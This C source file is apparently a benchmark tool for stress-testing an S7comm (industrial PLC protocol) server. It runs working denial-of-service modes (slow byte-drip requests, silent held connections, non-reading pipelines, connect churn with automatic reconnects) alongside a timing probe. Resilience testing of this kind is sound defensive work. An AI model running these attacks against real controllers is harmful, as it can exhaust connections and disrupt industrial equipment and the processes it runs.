/*
 * s7attack - hostile S7comm clients for bench/attack.sh, and the good client's fresh-connect probe.
 *
 *   s7attack -m MODE -H HOST -p PORT [-k K] [-d SECONDS] [-i MS] [-r RATE] [-R BYTES] [-N]
 *            [-c COUNT] [-t MS]
 *
 *   MODE  drip-read  K connections, each does the handshake, then sends a Read Var request
 *                    (4 bytes of DB1) one byte every -i ms (default 1000), the next one
 *                    when a request is complete; answers are read and thrown away
 *         drip-cr    K connections, each sends a COTP connect request one byte every -i ms
 *         silent     K TCP connections that send nothing
 *         pipeline   K connections with SO_RCVBUF -R bytes (default 4096) set before connect,
 *                    handshake, then Read Var requests as fast as the socket takes them;
 *                    never reads an answer
 *         churn      TCP connect and close as fast as possible, at most -r per second
 *                    (default 2000), keeping at most K (default 64) open at once: the oldest
 *                    is closed when a new one is up
 *         probe      the good client: -c (default 5) fresh connections, one started every
 *                    -i ms: connect + handshake + one Read Var of 4 bytes, each timed;
 *                    -t ms (default 2000) is the limit for each step
 *
 * The attack modes run for -d seconds (default 8) and stop by themselves. A connection the
 * server closes (or refuses) is opened again 100 ms later unless -N is given, as a real
 * attacker would. Once every slot has been tried once the program prints "ready held=N" on
 * stdout; at the end one JSON line with what the attacker saw (connects, closes by the
 * server and how long the server let those connections live, slots held on average, ...).
 * probe prints one JSON line: count, ok, failures, worst_ms (of the successful ones), times.
 *
 * Only libc. Build: gcc -O2 -Wall -o s7attack s7attack.c (the frames are in s7proto.h).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <unistd.h>

#define S7_PROG "s7attack"
#include "s7proto.h"

#define RECONNECT_NS 100000000ULL /* 100 ms between a close and the next try of that slot */
#define SAMPLE_NS 100000000ULL    /* slots held: sampled every 100 ms */
#define CONNECT_MS 1000           /* attacker's limit for a connect and each handshake step */

enum mode { A_DRIP_READ, A_DRIP_CR, A_SILENT, A_PIPELINE, A_CHURN, A_PROBE };
static const char *const MODE_NAMES[] = {"drip-read", "drip-cr", "silent", "pipeline", "churn", "probe"};

static const char *g_host = "127.0.0.1";
static int g_port = 102;
static enum mode g_mode = A_DRIP_READ;
static int g_k = -1;
static double g_seconds = 8.0;
static int g_interval_ms = -1;
static int g_rate = 2000;
static int g_rcvbuf = 4096;
static int g_reconnect = 1;
static int g_count = 5;
static int g_step_ms = 2000;

static struct sockaddr_storage g_addr;
static socklen_t g_addrlen;
static uint8_t g_read[64]; /* Read Var request, 4 bytes of DB1 */
static int g_readlen;

static void sleep_until(uint64_t t) {
    uint64_t n = now_ns();
    if (t <= n) return;
    struct timespec ts = {.tv_sec = (time_t)((t - n) / 1000000000ULL), .tv_nsec = (long)((t - n) % 1000000000ULL)};
    nanosleep(&ts, NULL);
}

static void set_nonblock(int fd) {
    int fl = fcntl(fd, F_GETFL);
    if (fl < 0 || fcntl(fd, F_SETFL, fl | O_NONBLOCK) < 0) die("fcntl: %s", strerror(errno));
}

/* A connected TCP socket (blocking) or -1 with *why set. rcvbuf > 0: SO_RCVBUF before connect. */
static int open_conn(int rcvbuf, int timeout_ms, const char **why) {
    int fd = socket(g_addr.ss_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd < 0) die("socket: %s (raise ulimit -n?)", strerror(errno));
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (rcvbuf > 0 && setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof rcvbuf) < 0)
        die("SO_RCVBUF: %s", strerror(errno));
    if (connect(fd, (struct sockaddr *)&g_addr, g_addrlen) < 0) {
        if (errno != EINPROGRESS) { *why = strerror(errno); close(fd); return -1; }
        if (wait_fd(fd, POLLOUT, timeout_ms) <= 0) { *why = "connect timed out"; close(fd); return -1; }
        int err = 0;
        socklen_t l = sizeof err;
        getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &l);
        if (err) { *why = strerror(err); close(fd); return -1; }
    }
    int fl = fcntl(fd, F_GETFL);
    fcntl(fd, F_SETFL, fl & ~O_NONBLOCK);
    return fd;
}

static void json_str(const char *key, const char *s) {
    printf(",\"%s\":\"", key);
    for (; *s; s++) if (*s != '"' && *s != '\\' && (unsigned char)*s >= 0x20) putchar(*s);
    putchar('"');
}

/* ------------------------------------------------------------------ probe */

static int probe_main(void) {
    double *ms = calloc((size_t)g_count, sizeof *ms);
    char (*err)[96] = calloc((size_t)g_count, sizeof *err);
    if (!ms || !err) die("out of memory");
    int ok = 0;
    double worst = 0;
    uint64_t start = now_ns();
    for (int i = 0; i < g_count; i++) {
        sleep_until(start + (uint64_t)i * (uint64_t)g_interval_ms * 1000000ULL);
        uint64_t t0 = now_ns();
        const char *why = NULL;
        int pdu = 0;
        int fd = open_conn(0, g_step_ms, &why);
        if (fd >= 0) why = s7_handshake(fd, g_step_ms, &pdu);
        if (fd >= 0 && !why) {
            uint8_t req[64], resp[512];
            memcpy(req, g_read, (size_t)g_readlen);
            put16(req + S7_REF_OFFSET, 1);
            if (send_all(fd, req, g_readlen, g_step_ms) < 0) why = "send Read Var failed";
            else {
                int n = recv_frame(fd, resp, sizeof resp, g_step_ms);
                if (n <= 0) why = s7_recv_why(n, "the Read Var answer");
                else why = s7_check_response(resp, n, 1, 0x04, 4);
            }
        }
        ms[i] = (double)(now_ns() - t0) / 1e6;
        if (fd >= 0) close(fd);
        if (why) snprintf(err[i], sizeof err[i], "%s", why);
        else { ok++; if (ms[i] > worst) worst = ms[i]; }
    }
    printf("{\"probe\":1,\"count\":%d,\"ok\":%d,\"failures\":%d,\"worst_ms\":%.3f,\"times_ms\":[", g_count, ok,
           g_count - ok, worst);
    for (int i = 0; i < g_count; i++) printf("%s%.3f", i ? "," : "", ms[i]);
    printf("]");
    for (int i = 0; i < g_count; i++)
        if (err[i][0]) { json_str("first_error", err[i]); break; }
    printf("}\n");
    return ok == g_count ? 0 : 1;
}

/* ------------------------------------------------------------------ churn */

static int churn_main(void) {
    int *open_fds = calloc((size_t)g_k, sizeof *open_fds);
    if (!open_fds) die("out of memory");
    int head = 0, nopen = 0;
    uint64_t ok = 0, failed = 0, attempts = 0;
    const char *first_err = NULL;
    uint64_t start = now_ns(), end = start + (uint64_t)(g_seconds * 1e9);
    printf("ready held=0\n");
    fflush(stdout);
    for (;;) {
        uint64_t due = start + attempts * 1000000000ULL / (uint64_t)g_rate;
        if (due >= end) break;
        sleep_until(due);
        attempts++;
        const char *why = NULL;
        int fd = open_conn(0, 200, &why);
        if (fd < 0) { failed++; if (!first_err) first_err = why; continue; }
        ok++;
        if (nopen == g_k) { close(open_fds[head]); head = (head + 1) % g_k; nopen--; }
        open_fds[(head + nopen) % g_k] = fd;
        nopen++;
    }
    for (int i = 0; i < nopen; i++) close(open_fds[(head + i) % g_k]);
    double secs = (double)(now_ns() - start) / 1e9;
    printf("{\"attack\":\"churn\",\"k\":%d,\"seconds\":%.3f,\"rate_limit\":%d,\"connects\":%llu,"
           "\"connect_failures\":%llu,\"connects_per_s\":%.1f",
           g_k, secs, g_rate, (unsigned long long)ok, (unsigned long long)failed, (double)ok / secs);
    if (first_err) json_str("first_error", first_err);
    printf("}\n");
    return 0;
}

/* ------------------------------------------------- slot-holding attacks */

struct slot {
    int fd;          /* -1: down */
    uint64_t t_up;   /* when it connected (and, with a handshake, was set up) */
    uint64_t next;   /* down: when to try again; dripping: when to send the next byte */
    int pos;         /* bytes of the current frame sent */
    unsigned ref;
};

struct astats {
    uint64_t connects, connect_failures, handshakes, handshake_failures, server_closes;
    uint64_t bytes_sent, requests_sent, bytes_read;
    uint64_t hold_ns_sum, hold_ns_min, hold_ns_max;
    uint64_t held_sum, samples;
    int held_min, held_max;
    const char *first_err;
};

static struct astats S = {.hold_ns_min = UINT64_MAX, .held_min = 1 << 30};

static void note(const char *why) { if (!S.first_err) S.first_err = why; }

static int needs_handshake(void) { return g_mode == A_DRIP_READ || g_mode == A_PIPELINE; }

static void slot_down(struct slot *s, uint64_t now, int by_server) {
    if (s->fd >= 0) close(s->fd);
    s->fd = -1;
    if (by_server) {
        uint64_t held = now - s->t_up;
        S.server_closes++;
        S.hold_ns_sum += held;
        if (held < S.hold_ns_min) S.hold_ns_min = held;
        if (held > S.hold_ns_max) S.hold_ns_max = held;
    }
    s->next = g_reconnect ? now + RECONNECT_NS : UINT64_MAX;
}

static void slot_up(struct slot *s) {
    const char *why = NULL;
    int fd = open_conn(g_mode == A_PIPELINE ? g_rcvbuf : 0, CONNECT_MS, &why);
    uint64_t now = now_ns();
    if (fd < 0) { S.connect_failures++; note(why); slot_down(s, now, 0); return; }
    S.connects++;
    if (needs_handshake()) {
        int pdu;
        why = s7_handshake(fd, CONNECT_MS, &pdu);
        now = now_ns();
        if (why) { S.handshake_failures++; note(why); close(fd); slot_down(s, now, 0); return; }
        S.handshakes++;
    }
    set_nonblock(fd);
    s->fd = fd;
    s->t_up = now;
    s->next = now; /* dripping starts with the first byte at once */
    s->pos = 0;
}

/* The frame this mode drips or pipelines, with the slot's current PDU reference. */
static int slot_frame(struct slot *s, uint8_t *buf) {
    if (g_mode == A_DRIP_CR) { memcpy(buf, COTP_CR, sizeof COTP_CR); return (int)sizeof COTP_CR; }
    memcpy(buf, g_read, (size_t)g_readlen);
    put16(buf + S7_REF_OFFSET, s->ref);
    return g_readlen;
}

/* Sends from the slot's frame: one byte (drip) or as much as the socket takes (pipeline).
 * Returns -1 when the connection is gone. */
static int slot_send(struct slot *s, int one_byte) {
    uint8_t f[64];
    for (;;) {
        int len = slot_frame(s, f);
        if (g_mode == A_DRIP_CR && s->pos == len) return 0; /* complete CR: then silent */
        int want = one_byte ? 1 : len - s->pos;
        ssize_t w = send(s->fd, f + s->pos, (size_t)want, MSG_NOSIGNAL);
        if (w < 0) {
            if (errno == EINTR) continue;
            if (errno == EAGAIN || errno == EWOULDBLOCK) return 0;
            return -1;
        }
        S.bytes_sent += (uint64_t)w;
        s->pos += (int)w;
        if (s->pos == len && g_mode != A_DRIP_CR) {
            S.requests_sent++;
            s->pos = 0;
            s->ref = (s->ref + 1) & 0xFFFF;
        }
        if (one_byte) return 0;
    }
}

static int slots_main(void) {
    struct slot *slots = calloc((size_t)g_k, sizeof *slots);
    struct pollfd *pfd = calloc((size_t)g_k, sizeof *pfd);
    if (!slots || !pfd) die("out of memory");
    uint64_t drip_ns = (uint64_t)g_interval_ms * 1000000ULL;
    uint64_t start = now_ns(), end = start + (uint64_t)(g_seconds * 1e9), next_sample = 0;
    for (int i = 0; i < g_k; i++) { slots[i].fd = -1; slots[i].ref = 1; slot_up(&slots[i]); }
    int held = 0;
    for (int i = 0; i < g_k; i++) held += slots[i].fd >= 0;
    printf("ready held=%d\n", held);
    fflush(stdout);
    next_sample = now_ns();
    for (;;) {
        uint64_t now = now_ns();
        if (now >= end) break;
        if (now >= next_sample) {
            held = 0;
            for (int i = 0; i < g_k; i++) held += slots[i].fd >= 0;
            S.held_sum += (uint64_t)held;
            S.samples++;
            if (held < S.held_min) S.held_min = held;
            if (held > S.held_max) S.held_max = held;
            next_sample += SAMPLE_NS;
        }
        uint64_t wake = next_sample < end ? next_sample : end;
        for (int i = 0; i < g_k; i++) {
            struct slot *s = &slots[i];
            if (s->fd < 0 && s->next <= now) slot_up(s);
            now = now_ns();
            if (s->fd >= 0 && (g_mode == A_DRIP_READ || g_mode == A_DRIP_CR) && s->next <= now) {
                if (slot_send(s, 1) < 0) { slot_down(s, now, 1); continue; }
                s->next += drip_ns;
            }
            uint64_t t = s->next;
            if (s->fd >= 0 && g_mode != A_DRIP_READ && g_mode != A_DRIP_CR) t = UINT64_MAX;
            if (t < wake) wake = t;
        }
        int np = 0;
        for (int i = 0; i < g_k; i++) {
            if (slots[i].fd < 0) continue;
            /* pipeline: never reads, so it learns of a close from RDHUP/HUP/ERR only */
            short ev = g_mode == A_PIPELINE ? (POLLOUT | POLLRDHUP) : POLLIN;
            pfd[np++] = (struct pollfd){.fd = slots[i].fd, .events = ev};
        }
        now = now_ns();
        int ms = wake > now ? (int)((wake - now + 999999) / 1000000) : 0;
        int r = poll(pfd, (nfds_t)np, ms);
        if (r < 0 && errno != EINTR) die("poll: %s", strerror(errno));
        if (r <= 0) continue;
        now = now_ns();
        for (int i = 0, p = 0; i < g_k && p < np; i++) {
            struct slot *s = &slots[i];
            if (s->fd < 0) continue;
            short re = pfd[p++].revents;
            if (!re) continue;
            if (g_mode == A_PIPELINE) {
                if (re & (POLLRDHUP | POLLHUP | POLLERR)) { slot_down(s, now, 1); continue; }
                if ((re & POLLOUT) && slot_send(s, 0) < 0) slot_down(s, now, 1);
                continue;
            }
            uint8_t buf[4096];
            ssize_t n = recv(s->fd, buf, sizeof buf, 0);
            if (n > 0) S.bytes_read += (uint64_t)n;
            else if (n == 0 || (errno != EAGAIN && errno != EINTR)) slot_down(s, now, 1);
        }
    }
    held = 0;
    for (int i = 0; i < g_k; i++) held += slots[i].fd >= 0;
    double secs = (double)(now_ns() - start) / 1e9;
    printf("{\"attack\":\"%s\",\"k\":%d,\"seconds\":%.3f,\"reconnect\":%d", MODE_NAMES[g_mode], g_k, secs, g_reconnect);
    if (g_mode == A_DRIP_READ || g_mode == A_DRIP_CR) printf(",\"interval_ms\":%d", g_interval_ms);
    if (g_mode == A_PIPELINE) printf(",\"rcvbuf\":%d", g_rcvbuf);
    printf(",\"connects\":%llu,\"connect_failures\":%llu", (unsigned long long)S.connects,
           (unsigned long long)S.connect_failures);
    if (needs_handshake())
        printf(",\"handshakes\":%llu,\"handshake_failures\":%llu", (unsigned long long)S.handshakes,
               (unsigned long long)S.handshake_failures);
    printf(",\"server_closes\":%llu", (unsigned long long)S.server_closes);
    if (S.server_closes)
        printf(",\"hold_ms_min\":%.0f,\"hold_ms_avg\":%.0f,\"hold_ms_max\":%.0f", (double)S.hold_ns_min / 1e6,
               (double)S.hold_ns_sum / (double)S.server_closes / 1e6, (double)S.hold_ns_max / 1e6);
    printf(",\"held_avg\":%.1f,\"held_min\":%d,\"held_max\":%d,\"held_at_end\":%d",
           S.samples ? (double)S.held_sum / (double)S.samples : 0.0, S.samples ? S.held_min : 0,
           S.samples ? S.held_max : 0, held);
    printf(",\"bytes_sent\":%llu,\"requests_sent\":%llu,\"bytes_read\":%llu", (unsigned long long)S.bytes_sent,
           (unsigned long long)S.requests_sent, (unsigned long long)S.bytes_read);
    if (S.first_err) json_str("first_error", S.first_err);
    printf("}\n");
    fflush(stdout);
    for (int i = 0; i < g_k; i++) if (slots[i].fd >= 0) close(slots[i].fd);
    return 0;
}

/* ------------------------------------------------------------------ main */

static void usage(void) {
    fprintf(stderr, "usage: s7attack -m drip-read|drip-cr|silent|pipeline|churn|probe -H host -p port\n"
                    "                [-k conns] [-d seconds] [-i ms] [-r per_second] [-R rcvbuf] [-N]\n"
                    "                [-c probes] [-t step_ms]\n");
    exit(2);
}

int main(int argc, char **argv) {
    int opt;
    while ((opt = getopt(argc, argv, "m:H:p:k:d:i:r:R:Nc:t:")) != -1) {
        switch (opt) {
        case 'm': {
            int found = 0;
            for (int m = 0; m <= A_PROBE; m++)
                if (!strcmp(optarg, MODE_NAMES[m])) { g_mode = (enum mode)m; found = 1; }
            if (!found) usage();
            break;
        }
        case 'H': g_host = optarg; break;
        case 'p': g_port = atoi(optarg); break;
        case 'k': g_k = atoi(optarg); break;
        case 'd': g_seconds = atof(optarg); break;
        case 'i': g_interval_ms = atoi(optarg); break;
        case 'r': g_rate = atoi(optarg); break;
        case 'R': g_rcvbuf = atoi(optarg); break;
        case 'N': g_reconnect = 0; break;
        case 'c': g_count = atoi(optarg); break;
        case 't': g_step_ms = atoi(optarg); break;
        default: usage();
        }
    }
    if (g_k < 0) g_k = g_mode == A_CHURN ? 64 : 32;
    if (g_interval_ms < 0) g_interval_ms = 1000;
    if (g_k < 1 || g_seconds <= 0 || g_port <= 0 || g_rate < 1 || g_count < 1 || g_step_ms < 1) usage();
    signal(SIGPIPE, SIG_IGN);
    raise_nofile(g_k + 64);
    s7_resolve(g_host, g_port, &g_addr, &g_addrlen);
    g_readlen = s7_build_request(g_read, 0x04, 4);
    if (g_mode == A_PROBE) return probe_main();
    if (g_mode == A_CHURN) return churn_main();
    return slots_main();
}
